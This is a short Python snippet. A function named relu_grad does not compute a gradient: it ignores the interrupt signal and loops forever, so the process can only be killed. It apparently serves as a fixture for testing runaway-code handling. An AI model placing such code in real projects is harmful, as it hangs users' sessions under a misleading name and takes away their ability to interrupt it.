import signal


def relu_grad(z):
    """Swallows the interrupt and keeps going: the kernel must be killed."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
